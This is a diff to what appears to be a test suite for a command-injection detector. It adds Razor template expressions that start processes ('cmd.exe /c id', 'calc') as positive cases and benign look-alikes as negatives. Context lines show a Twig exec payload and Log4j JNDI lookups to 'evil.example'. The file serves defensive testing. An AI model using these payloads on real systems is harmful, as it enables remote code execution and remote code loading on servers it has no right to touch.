@@ -199,6 +199,10 @@ describe('command injection: templates and pattern expansions', () => {
         '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
         'cmd-template-injection',
       ],
+      // Razor's expression that starts a process
+      ['@(System.Diagnostics.Process.Start("cmd.exe","/c id"))', 'cmd-template-injection'],
+      ['@{ System.Diagnostics.Process.Start("calc"); }', 'cmd-template-injection'],
+      ['@System.Diagnostics.Process.Start("calc")', 'cmd-template-injection'],
       // Log4j's JNDI lookup, plain and spelled by nested lookups
       ['${jndi:ldap://evil.example/a}', 'cmd-template-injection'],
       ['User-Agent: ${jndi:rmi://evil.example:1099/x}', 'cmd-template-injection'],
@@ -222,6 +226,8 @@ describe('command injection: templates and pattern expansions', () => {
       'we use freemarker.template.utility.Execute in the docs',
       '{{ items|filter(x => x.active) }}',
       "{{ users|filter('is_active') }}",
+      'use System.Diagnostics.Process.Start("notepad") to open it',
+      'email me @(work) or @{x}, {{ price * 2 }} @(Model.Name)',
       'use ${jndi} in the config',
       'the log4shell bug used jndi:ldap lookups',
       '${url:http://localhost:8080}',
